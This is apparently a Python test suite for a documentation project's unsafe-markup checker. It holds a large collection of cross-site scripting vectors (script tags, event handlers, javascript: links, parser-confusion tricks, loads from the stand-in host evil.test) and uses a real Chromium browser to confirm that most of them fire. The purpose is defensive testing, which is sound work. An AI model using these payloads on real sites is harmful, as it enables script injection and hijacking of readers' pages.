"""Contributed Markdown brings in no script: judged by our list, by line, and by a real browser."""

from __future__ import annotations

import re
from typing import TYPE_CHECKING
from urllib.parse import urlsplit

import markdown
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from playwright.sync_api import Error

from docs_i18n.checks.unsafe_markup import find_unsafe_markup, find_unsafe_values, offences, scheme

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from playwright.sync_api import Browser, Route

EXTENSIONS = [
    "admonition",
    "attr_list",
    "def_list",
    "footnotes",
    "tables",
    "pymdownx.details",
    "pymdownx.superfences",
    "pymdownx.tasklist",
]

# Each calls pwn() or asks another host when a browser shows it or a reader touches it, or did so in some browser
# once. They are our own collection, after the families of attacks that sanitisers have had to learn.
VECTORS = (
    # scripts
    "<script>pwn()</script>",
    "<ScRiPt>pwn()</sCrIpT>",
    "<script/x>pwn()</script>",
    "<script src=https://evil.test/x.js></script>",
    "<script src=//evil.test/x.js></script>",
    "<script type=module>pwn()</script>",
    "<svg><script>pwn()</script></svg>",
    "<svg><script>pwn&#40;&#41;</script></svg>",
    "<svg><script href=data:text/javascript,pwn() /></svg>",
    "<svg><script xlink:href=data:text/javascript,pwn()></script></svg>",
    "<math><mtext><script>pwn()</script></mtext></math>",
    "</div></main><script>pwn()</script>",
    "<!--><script>pwn()</script>-->",
    "<!-- --!><script>pwn()</script>-->",
    "<p title='</p><script>pwn()</script>'><p title='a'><script>pwn()</script>",
    # handlers
    "<img src=x onerror=pwn()>",
    "<img src=x onerror='pwn()'>",
    "<img/src='x'/onerror=pwn()>",
    "<IMG SRC=x ONERROR=pwn()>",
    "<img src=x\nonerror\n=\npwn()>",
    "<img src=x onerror=&#112;wn()>",
    "<image src=x onerror=pwn()>",
    "<svg onload=pwn()>",
    "<svg/onload=pwn()>",
    "<svg><g onload=pwn()></g></svg>",
    "<svg><animate onbegin=pwn() attributeName=x dur=1s></svg>",
    "<body onload=pwn()>",
    "<body onpageshow=pwn()>",
    "<html onclick=pwn()>",
    "<p onclick=pwn()>click</p>",
    "<p onmouseover=pwn()>hover</p>",
    "<a href=# onclick=pwn()>click</a>",
    "<details open ontoggle=pwn()><summary>s</summary></details>",
    "<input autofocus onfocus=pwn()>",
    "<input type=image src=x onerror=pwn()>",
    "<select autofocus onfocus=pwn()></select>",
    "<textarea autofocus onfocus=pwn()></textarea>",
    "<button onclick=pwn()>b</button>",
    "<video><source onerror=pwn() src=x></video>",
    "<video src=x onerror=pwn()></video>",
    "<audio src=x onerror=pwn()></audio>",
    "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=pwn()>x</p>",
    "<style onload=pwn()>p{}</style>",
    "<link rel=stylesheet href=data:text/css, onload=pwn()>",
    "<object data=x onerror=pwn()></object>",
    "<marquee onstart=pwn()>m</marquee>",
    "<x-y onclick=pwn()>own element</x-y>",
    # addresses
    "<a href=javascript:pwn()>a</a>",
    "<a href=JaVaScRiPt:pwn()>a</a>",
    "<a href=' javascript:pwn()'>a</a>",
    "<a href='&#1;javascript:pwn()'>a</a>",
    "<a href='java\tscript:pwn()'>a</a>",
    "<a href='java&#10;script:pwn()'>a</a>",
    "<a href='java&NewLine;script&colon;pwn()'>a</a>",
    "<a href='javascript&#58;pwn()'>a</a>",
    "<a href='javascript&#x3a;pwn()'>a</a>",
    "<a href='javascript&#0000058pwn()'>a</a>",
    "<a href='javascript://%0Apwn()'>a</a>",
    "<a href='vbscript:pwn()'>a</a>",
    "<a href='data:text/html,<script>pwn()</script>'>a</a>",
    "<a href='blob:https://evil.test/x'>a</a>",
    "<svg><a href=javascript:pwn()><text y=9>a</text></a></svg>",
    "<svg><a xlink:href=javascript:pwn()><rect width=9 height=9 /></a></svg>",
    "<svg><a><animate attributeName=href values=javascript:pwn() /><text y=9>a</text></a></svg>",
    "<math href=javascript:pwn()>m</math>",
    "<math><maction xlink:href=javascript:pwn()>m</maction></math>",
    "<form action=javascript:pwn()><input type=submit></form>",
    "<form><button formaction=javascript:pwn()>b</button></form>",
    "<area href=javascript:pwn()>",
    # frames and documents in the document
    "<iframe src=javascript:parent.pwn()></iframe>",
    "<iframe src=https://evil.test/></iframe>",
    "<iframe srcdoc='<script>parent.pwn()</script>'></iframe>",
    "<object data='data:text/html,<script>pwn()</script>'></object>",
    "<embed src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=pwn() />'>",
    "<svg><foreignObject><img src=x onerror=pwn()></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=pwn() />#x' /></svg>",
    "<template><script>pwn()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=pwn()>'></noscript>",
    "<math><mi><style><img src=x onerror=pwn()></style></mi></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=pwn()>",
    "<select><template><img src=x onerror=pwn()></template></select>",
    # the whole document
    "<base href=https://evil.test/>",
    "<meta http-equiv=refresh content='0;url=https://evil.test/'>",
    "<link rel=stylesheet href=https://evil.test/x.css>",
    "<link rel=preconnect href=https://evil.test/>",
    "<style>@import 'https://evil.test/x.css'</style>",
    "<p style='background:url(https://evil.test/x)'>x</p>",
    "<p style='position:fixed;inset:0'>over all</p>",
    "<img src=https://evil.test/x.png alt=x>",
    "<img src=//evil.test/x.png alt=x>",
    "<img src='\\\\evil.test/x.png' alt=x>",
    "<img src='/\t/evil.test/x.png' alt=x>",
    "<img srcset='https://evil.test/x.png 1x' alt=x>",
    "<video poster=https://evil.test/x.png></video>",
    "<a href=x ping=https://evil.test/>a</a>",
    "<table background=https://evil.test/x.png></table>",
    '<input type=checkbox onclick="pwn()"',
    '<a href="#" onclick="pwn()" title="',
    "<!-- the rest of the page is gone",
    "<img alt='the rest of the page is gone",
    "<plaintext>the rest of the page is text",
)

HARMLESS = (
    "A paragraph with *emphasis*, **weight**, `<script>pwn()</script>` and a [link](../guide.md#part).",
    "[mail](mailto:a@b.pt) [call](tel:+351210000000) [site](https://example.org/?a=b&c=d) <https://example.org>",
    "<someone@example.org>",
    "## Heading {#heading .wide}",
    "```html\n<img src=x onerror=pwn()>\n```",
    '!!! tip "Title"\n    Body with <b>weight</b>.',
    '??? note "Folded"\n    Body.',
    "- [ ] to do\n- [x] done",
    "1. one\n2. two\n\n    - three",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "Term\n:   Definition",
    "![A picture](picture.png){ width=300 loading=lazy }",
    "A note[^1].\n\n[^1]: The note.",
    "<!-- local -->\n\nHere only.\n\n<!-- /local -->",
    '<p lang="uk" dir="ltr">Українською</p>',
    "<details><summary>More</summary>\n<p>Text</p></details>",
    '<video src="film.webm" poster="film.png" controls><track src="film.vtt" kind="captions" srclang="pt"></video>',
    '<span class="icon"><svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><path d="M0 0h9"/></svg></span>',
    "> javascript: is a word here, and `onclick=` too.",
)

# Hostile Markdown that stands on one line, and what its finding must mention.
HOSTILE_LINES = {
    "<script>pwn()</script>": "<script>",
    "Text <img src=x onerror=pwn()> text": "onerror",
    "[a](javascript:pwn())": "href",
    "[a](javascript&#58;pwn())": "href",
    "## Heading { onclick=pwn() }": "onclick",
    "![a](https://evil.test/x.png)": "src",
    '<p style="color:red">a</p>': "style",
    "<IFRAME src=x></IFRAME>": "<iframe>",
    "a *b*{ onmouseover=pwn() }": "onmouseover",
}


def render(text: str) -> str:
    return markdown.markdown(text, extensions=EXTENSIONS)


@pytest.mark.parametrize("vector", VECTORS)
def test_every_vector_is_an_offence(vector: str) -> None:
    assert list(offences(vector))


@pytest.mark.parametrize("text", HARMLESS)
def test_what_people_write_is_no_offence(text: str) -> None:
    # Our page tree turns the style of table cells into a class before a page is judged.
    html = re.sub(r' style="text-align: \w+;"', "", render(text))

    assert list(offences(html)) == []


def test_an_offence_says_what_kind_it_is() -> None:
    kinds = {
        "<b><script></script></b>": "element",
        "<input>": "element",
        '<p onclick="a">a</p>': "attribute",
        '<p tabindex="5">a</p>': "attribute",
        '<a href="javascript:a">a</a>': "url",
        "</div>": "nesting",
        "<div>": "nesting",
    }

    assert [[offence.what for offence in offences(html)] for html in kinds] == [
        [kind] for kind in kinds.values()
    ]


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("guide/", None),
        ("#part", None),
        ("//host/x", None),
        ("a/b:c", None),
        ("?a=b:c", None),
        ("HTTPS://x", "https"),
        ("\x01 java\tscr\nipt:x", "javascript"),
        ("javascript\t:x", "javascript"),
        (":x", None),
        ("1a:x", None),
        ("", None),
    ],
)
def test_a_scheme_is_what_a_browser_takes_for_one(url: str, expected: str | None) -> None:
    assert scheme(url) == expected


HEAD = "---\ntitle: A page\n---\n"


@pytest.mark.parametrize(
    ("body", "lines"),
    [
        ("fine\n\n<script>x</script>\n", [6]),
        ("[a][r]\n\nfine\n\n[r]: javascript:x\n", [8]),  # the address, not the word that is linked
        ('<div\n\n\nonclick="x">\n</div>\n', [7]),  # the line on which the tag becomes one
        ("```\n<script>x</script>\n```\n\n<script>x</script>\n", [8]),  # the first is only shown
        ("<script>x</script>\n\nfine\n\n<script>x</script>\n", [4, 8]),  # two of the same
        ("## A { onclick=x }\n\n<p style='x'>\n</p>\n\n![](//a.test/x.png)\n", [4, 6, 9]),
        ("fine\n\n<div>\n\nfine\n", [6]),  # never closed
        ("<div>\n\nfine\n\n</div>\n\n</div>\n\nfine\n", [10]),  # closed once too often
        ("!!! note\n    fine\n\n    <b onclick=x>a</b>\n", [7]),
    ],
)
def test_a_finding_names_the_line_of_the_file(body: str, lines: list[int]) -> None:
    found = list(find_unsafe_markup("docs/a.md", HEAD + body, render))

    assert [finding.line for finding in found] == lines
    assert {finding.rule for finding in found} == {"unsafe-markup"}


def test_windows_line_ends_and_no_front_matter_count_too() -> None:
    (finding,) = find_unsafe_markup("docs/a.md", "one\r\n\r\n<script>x</script>\r\n", render)

    assert str(finding).startswith("docs/a.md:3: unsafe-markup: <script> is not allowed in a page; ")


def test_a_page_is_judged_by_what_is_published() -> None:
    published = "<p>fine</p><p onclick='x'>from elsewhere</p>"

    (finding,) = find_unsafe_markup("docs/a.md", "fine\n", render, html=published)

    assert finding.line is None


def test_a_clean_published_page_costs_no_rendering() -> None:
    def never(text: str) -> str:
        raise AssertionError(text)

    assert list(find_unsafe_markup("docs/a.md", "fine\n", never, html="<p>fine</p>")) == []


blocks = st.lists(st.sampled_from([*HARMLESS, *HOSTILE_LINES]), max_size=8)


@given(blocks)
@settings(deadline=None, max_examples=60)
def test_any_mix_gives_the_lines_of_the_hostile_blocks_and_no_others(mix: list[str]) -> None:
    text, expected = HEAD, set()
    for block in mix:
        if block in HOSTILE_LINES:
            expected.add(text.count("\n") + 1)
        text += f"{block}\n\n"

    found = find_unsafe_markup("a.md", text, lambda body: re.sub(r' style="text-align.*?"', "", render(body)))

    assert {finding.line for finding in found} == expected


@given(st.text(alphabet=st.sampled_from("<>/!-&#;:='\"` \n\tabonclickjvsrpt[](){}|*"), max_size=80))
@example("<!--")
@example("<svg></p><style><a id='</style><img src=1 onerror=1>'>")
@settings(deadline=None, max_examples=150)
def test_no_text_makes_the_check_fail(text: str) -> None:
    list(offences(text))
    list(find_unsafe_markup("a.md", text, render))
    list(find_unsafe_values("a.md", f"---\n{text}\n---\n"))


@pytest.mark.parametrize(
    ("values", "lines"),
    [
        ("title: Plain, 3 < 4 & more\ndescription: “Quoted” <3", []),
        ("title: A <b>bold</b> title", [2]),
        ("title: a\ndescription: x<script>", [3]),
        ("title: '&lt;script&gt;'", [2]),  # striptags makes a tag of it
        ("title: '&amp;lt;script&amp;gt;'", [2]),
        ('title: "\\x3cscript>"', [2]),
        ("doors:\n  - id: city\n    text: <i>x</i>", [4]),
        ("sources:\n  - title: a\n    url: javascript:x", [4]),
        ('sources:\n  - url: "java\\tscript:x"', [3]),
        ("sources:\n  - url: https://example.org", []),
        ("doors:\n  - links: [start/a.md, 'data:text/html,x']", [3]),
        ("title: 'javascript: a word'", []),
        ("a: &a [*a, <b>]", [2]),
        ("not: [yaml", []),  # left to the rule front-matter
    ],
)
def test_values_of_the_head_are_plain_text(values: str, lines: list[int]) -> None:
    found = list(find_unsafe_values("docs/a.md", f"---\n{values}\n---\n\n<b>body</b>\n"))

    assert [finding.line for finding in found] == lines
    assert {finding.rule for finding in found} <= {"unsafe-front-matter"}


TEMPLATE = (
    "<!doctype html><html lang=en><head><title>t</title></head><body><header>h</header><main><article><h1>t</h1>"
    '<div class="page-text">{}</div></article></main><footer>f</footer></body></html>'
)

# What a reader's mouse, keyboard and time would do, to every element; links are followed only into scripts.
TOUCH = """() => {
  const follow = (event) => {
    const href = event.target.closest?.("a, area")?.getAttribute("href") || "";
    if (!/script/i.test(href.replace(/[\\s\\u0000-\\u001f]/g, ""))) event.preventDefault();
  };
  addEventListener("click", follow, true);
  addEventListener("submit", (event) => event.target.action?.includes("script") || event.preventDefault(), true);
  const types = ["mouseover", "focus", "toggle", "load", "error", "animationstart", "begin", "click"];
  for (const element of document.body.querySelectorAll("*")) {
    for (const type of types) element.dispatchEvent(new MouseEvent(type, { bubbles: true, cancelable: true }));
  }
}"""


@pytest.fixture(scope="module")
def fires(browser: Browser) -> Iterator[Callable[[str], bool]]:
    """Show HTML in Chromium, with no policy; tell whether it runs something or asks another host."""
    context = browser.new_context()
    signs: list[str] = []
    shown: list[str] = []

    def answer(route: Route) -> None:
        if route.request.url == "http://site.test/":
            route.fulfill(body=shown[-1], content_type="text/html; charset=utf-8")
            return
        if urlsplit(route.request.url).hostname != "site.test":
            signs.append(route.request.url)
        route.fulfill(status=404)

    context.add_init_script("window.pwn = () => console.log('pwn')")
    context.on("console", lambda message: signs.append("pwn") if message.text == "pwn" else None)
    context.route("**/*", answer)
    page = context.new_page()

    def show(html: str) -> bool:
        nonlocal page
        signs.clear()
        shown.append(TEMPLATE.format(html))
        try:
            page.goto("http://site.test/")
            page.evaluate(TOUCH)
            page.wait_for_timeout(20)
        except Error:  # a refresh or a link has taken the page away
            page.close()
            page = context.new_page()
        return bool(signs)

    yield show
    context.close()


def test_chromium_confirms_that_the_vectors_are_real(fires: Callable[[str], bool]) -> None:
    """The collection is no paper tiger: most of it works in today's browser where nothing stops it."""
    real = [vector for vector in VECTORS if fires(vector)]

    assert len(real) > 55
    assert not fires("<p>fine</p>")


# Halves of tags, quotes and comments: what looks harmless to one parser may be a handler to another.
PIECES = (
    *(
        "<p>",
        "</p>",
        "<b>",
        "</b>",
        "<h2>",
        "</h2>",
        "<div>",
        "</div>",
        "<ul>",
        "<li>",
        "</ul>",
        "<hr>",
        "</br>",
    ),
    *("<table>", "<tr>", "<td>", "</table>", "<caption>", "<pre>\n", "</pre>", "<details open>", "<summary>"),
    *(
        "<svg>",
        "</svg>",
        "<path>",
        "<path/>",
        "<g>",
        "<a>",
        "</a>",
        "<a href=",
        '<a href="',
        "<input type=checkbox ",
    ),
    *(
        "<img alt=x src=",
        '<img alt="',
        "<video>",
        "<audio>",
        "<source src=",
        "<ruby><rt>",
        "</main",
        "</body>",
    ),
    *(
        "<title>",
        "</title>",
        "<style>",
        "</style>",
        "<math>",
        "<mi>",
        "<textarea>",
        "<frameset onload=pwn()>",
    ),
    *(
        ">",
        "<",
        "</",
        '"',
        "'",
        '"/',
        "`",
        "=",
        " ",
        "/",
        "<!--",
        "-->",
        "--!>",
        "<!",
        "<?",
        "<![CDATA[",
        "]]>",
    ),
    *("javascript:pwn()", "java&#9;script:pwn()", "//evil.test/x", "text", "&lt;", "&#0;", "\0", "\f"),
    *(" onclick=pwn()", ' onerror="pwn()"', ' title="', " title='", " class=", "<script>pwn()</script>"),
)
pieces = st.lists(st.sampled_from(PIECES), max_size=8).map("".join)


@given(html=st.one_of(pieces, st.sampled_from(HARMLESS).map(render)))
@settings(deadline=None, max_examples=300)
def test_html_without_an_offence_does_nothing_in_chromium(fires: Callable[[str], bool], html: str) -> None:
    assert any(offences(html)) or not fires(html)
